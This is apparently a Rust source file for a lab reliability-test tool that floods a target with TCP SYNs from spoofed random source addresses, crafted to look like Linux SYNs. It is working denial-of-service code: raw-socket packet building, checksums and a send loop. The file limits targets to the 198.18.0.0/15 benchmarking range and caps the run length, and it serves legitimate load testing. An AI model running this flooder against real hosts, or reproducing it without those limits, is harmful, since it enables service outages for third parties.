//! `synflood`: a raw-socket SYN flooder for the lab's reliability test (issue 9), and
//! nothing else. It sends TCP SYNs with spoofed sources at one target as fast as one
//! thread can, bounded by a duration and a packet count, and prints what it sent.
//!
//! It only ever touches the benchmarking range: the target and every spoofed source must
//! lie in 198.18.0.0/15 (RFC 2544), and anything else is refused before a socket is
//! opened. It is meant to run inside a lab namespace (`baton lab exec client -- synflood
//! ...`), where that range is all there is.
//!
//! ```text
//! synflood --target 198.18.2.1:80 [--sources 198.18.64.0/18] [--seconds 10] [--count N]
//! ```
//!
//! Each SYN carries the options Linux sends (MSS, SACK-permitted, timestamps, window
//! scale), with a random source address in `--sources`, a random port and ISN, so that
//! the target can neither recognise a flooded SYN by its options nor keep it in any
//! table keyed by a few sources. Output, on one line at the end:
//! `synflood sent=N seconds=S rate_pps=R send_errors=E`.

use std::{
    net::{Ipv4Addr, SocketAddrV4},
    process::ExitCode,
    time::{Duration, Instant},
};

use baton_common::translate::{
    ones_complement_add, ones_complement_sum, tcp_ipv4_pseudo_header_sum,
};

/// RFC 2544's benchmarking range, the only addresses this tool sends to or as.
const ALLOWED: (Ipv4Addr, u8) = (Ipv4Addr::new(198, 18, 0, 0), 15);
/// Hard ceilings, whatever the command line says.
const MAX_SECONDS: u64 = 120;
const MAX_COUNT: u64 = 100_000_000;

#[derive(Debug)]
struct Args {
    target: SocketAddrV4,
    sources: (Ipv4Addr, u8),
    seconds: u64,
    count: u64,
}

fn usage() -> String {
    "usage: synflood --target 198.18.A.B:PORT [--sources 198.18.X.Y/LEN] [--seconds S (1..=120, default 10)] [--count N (default and ceiling 100000000)]".into()
}

fn parse_net(text: &str) -> Result<(Ipv4Addr, u8), String> {
    let (addr, len) = text
        .split_once('/')
        .ok_or_else(|| format!("{text}: not ADDRESS/LENGTH"))?;
    let addr: Ipv4Addr = addr.parse().map_err(|e| format!("{text}: {e}"))?;
    let len: u8 = len.parse().map_err(|e| format!("{text}: {e}"))?;
    if len > 32 {
        return Err(format!("{text}: a prefix length is at most 32"));
    }
    Ok((addr, len))
}

fn mask(len: u8) -> u32 {
    if len == 0 {
        0
    } else {
        u32::MAX << (32 - u32::from(len))
    }
}

/// Whether network `inner` lies wholly inside `outer`.
fn within(inner: (Ipv4Addr, u8), outer: (Ipv4Addr, u8)) -> bool {
    inner.1 >= outer.1 && u32::from(inner.0) & mask(outer.1) == u32::from(outer.0) & mask(outer.1)
}

fn parse_args(mut args: impl Iterator<Item = String>) -> Result<Args, String> {
    let mut target = None;
    let mut sources = (Ipv4Addr::new(198, 18, 64, 0), 18);
    let mut seconds = 10;
    let mut count = MAX_COUNT;
    while let Some(flag) = args.next() {
        let mut value = || args.next().ok_or_else(|| format!("{flag} needs a value"));
        match flag.as_str() {
            "--target" => {
                target = Some(
                    value()?
                        .parse::<SocketAddrV4>()
                        .map_err(|e| format!("--target: {e}"))?,
                )
            }
            "--sources" => sources = parse_net(&value()?)?,
            "--seconds" => seconds = value()?.parse().map_err(|e| format!("--seconds: {e}"))?,
            "--count" => count = value()?.parse().map_err(|e| format!("--count: {e}"))?,
            "-h" | "--help" => return Err(usage()),
            other => return Err(format!("unknown argument {other}\n{}", usage())),
        }
    }
    let target = target.ok_or_else(usage)?;
    if !within((*target.ip(), 32), ALLOWED) {
        return Err(format!(
            "refused: target {} is outside 198.18.0.0/15",
            target.ip()
        ));
    }
    if !within(sources, ALLOWED) {
        return Err(format!(
            "refused: sources {}/{} are not inside 198.18.0.0/15",
            sources.0, sources.1
        ));
    }
    if !(1..=MAX_SECONDS).contains(&seconds) {
        return Err(format!("--seconds must be 1..={MAX_SECONDS}"));
    }
    if !(1..=MAX_COUNT).contains(&count) {
        return Err(format!("--count must be 1..={MAX_COUNT}"));
    }
    Ok(Args {
        target,
        sources,
        seconds,
        count,
    })
}

/// xorshift64*: fast, and plenty for picking spoofed sources.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
}

/// An IPv4 + TCP SYN with Linux's options (MSS 1460, SACK-permitted, timestamps, window
/// scale 7), checksums complete.
fn syn(src: Ipv4Addr, sport: u16, dst: SocketAddrV4, seq: u32, tsval: u32) -> [u8; 60] {
    let mut p = [0u8; 60];
    p[..12].copy_from_slice(&[0x45, 0, 0, 60, 0, 0, 0x40, 0, 64, 6, 0, 0]);
    p[12..16].copy_from_slice(&src.octets());
    p[16..20].copy_from_slice(&dst.ip().octets());
    let check = !ones_complement_sum(&p[..20]);
    p[10..12].copy_from_slice(&check.to_be_bytes());
    let t = &mut p[20..];
    t[0..2].copy_from_slice(&sport.to_be_bytes());
    t[2..4].copy_from_slice(&dst.port().to_be_bytes());
    t[4..8].copy_from_slice(&seq.to_be_bytes());
    t[12] = 10 << 4; // 40 bytes: 20 of header, 20 of options
    t[13] = 0x02; // SYN
    t[14..16].copy_from_slice(&64240u16.to_be_bytes());
    let options = [
        2, 4, 0x05, 0xb4, // MSS 1460
        4, 2, // SACK-permitted
        8, 10, 0, 0, 0, 0, 0, 0, 0, 0, // timestamps
        1, // NOP
        3, 3, 7, // window scale 7
    ];
    t[20..40].copy_from_slice(&options);
    t[28..32].copy_from_slice(&tsval.to_be_bytes());
    let pseudo = tcp_ipv4_pseudo_header_sum(src.octets(), dst.ip().octets(), 40);
    let check = !ones_complement_add(ones_complement_sum(t), pseudo);
    t[16..18].copy_from_slice(&check.to_be_bytes());
    p
}

fn flood(args: &Args) -> std::io::Result<(u64, u64, Duration)> {
    // SAFETY: plain socket calls; every result is checked, the fd closed at the end.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    if fd < 0 {
        return Err(std::io::Error::last_os_error());
    }
    // SAFETY: zeroed sockaddr_in is a valid value.
    let mut to: libc::sockaddr_in = unsafe { std::mem::zeroed() };
    to.sin_family = libc::AF_INET as libc::sa_family_t;
    to.sin_addr.s_addr = u32::from_ne_bytes(args.target.ip().octets());
    let base = u32::from(args.sources.0) & mask(args.sources.1);
    let hosts = !mask(args.sources.1);
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15 ^ u64::from(std::process::id()));
    let started = Instant::now();
    let limit = Duration::from_secs(args.seconds);
    let (mut sent, mut errors) = (0u64, 0u64);
    'outer: loop {
        // The clock is read once per batch: a syscall per packet is the budget.
        for _ in 0..256 {
            if sent + errors >= args.count {
                break 'outer;
            }
            let r = rng.next();
            let src = Ipv4Addr::from(base | (r as u32 & hosts));
            let sport = 1024 + ((r >> 32) as u16 % 64_000);
            let packet = syn(src, sport, args.target, (r >> 16) as u32, r as u32 ^ 0x5a5a);
            // SAFETY: `packet` and `to` outlive the call; lengths are theirs.
            let n = unsafe {
                libc::sendto(
                    fd,
                    packet.as_ptr().cast(),
                    packet.len(),
                    0,
                    (&raw const to).cast(),
                    std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t,
                )
            };
            if n == packet.len() as isize {
                sent += 1;
            } else {
                // ENOBUFS when the device queue is full: count it and go on.
                errors += 1;
            }
        }
        if started.elapsed() >= limit {
            break;
        }
    }
    // SAFETY: our own fd.
    unsafe { libc::close(fd) };
    Ok((sent, errors, started.elapsed()))
}

fn main() -> ExitCode {
    let args = match parse_args(std::env::args().skip(1)) {
        Ok(args) => args,
        Err(e) => {
            eprintln!("synflood: {e}");
            return ExitCode::from(2);
        }
    };
    match flood(&args) {
        Ok((sent, errors, took)) => {
            println!(
                "synflood sent={sent} seconds={:.3} rate_pps={:.0} send_errors={errors}",
                took.as_secs_f64(),
                sent as f64 / took.as_secs_f64()
            );
            ExitCode::SUCCESS
        }
        Err(e) => {
            eprintln!("synflood: raw socket: {e}");
            ExitCode::FAILURE
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn args(line: &str) -> Result<Args, String> {
        parse_args(line.split_whitespace().map(String::from))
    }

    #[test]
    fn only_the_benchmarking_range_is_accepted() {
        assert!(args("--target 198.18.2.1:80").is_ok());
        assert!(args("--target 198.19.255.255:80 --sources 198.19.0.0/16").is_ok());
        assert!(
            args("--target 10.0.0.1:80")
                .unwrap_err()
                .contains("refused")
        );
        assert!(
            args("--target 198.20.0.1:80")
                .unwrap_err()
                .contains("refused")
        );
        assert!(
            args("--target 198.18.2.1:80 --sources 198.0.0.0/8")
                .unwrap_err()
                .contains("refused")
        );
        assert!(
            args("--target 198.18.2.1:80 --sources 10.0.0.0/16")
                .unwrap_err()
                .contains("refused")
        );
        assert!(args("--target 198.18.2.1:80 --seconds 0").is_err());
        assert!(args("--target 198.18.2.1:80 --seconds 121").is_err());
        assert!(
            args("--sources 198.18.0.0/16").is_err(),
            "a target is required"
        );
    }

    #[test]
    fn syns_have_valid_checksums() {
        let p = syn(
            Ipv4Addr::new(198, 18, 70, 1),
            4321,
            "198.18.2.1:80".parse().unwrap(),
            7,
            9,
        );
        assert_eq!(ones_complement_sum(&p[..20]), 0xffff);
        let pseudo = tcp_ipv4_pseudo_header_sum([198, 18, 70, 1], [198, 18, 2, 1], 40);
        assert_eq!(
            ones_complement_add(ones_complement_sum(&p[20..]), pseudo),
            0xffff
        );
    }
}
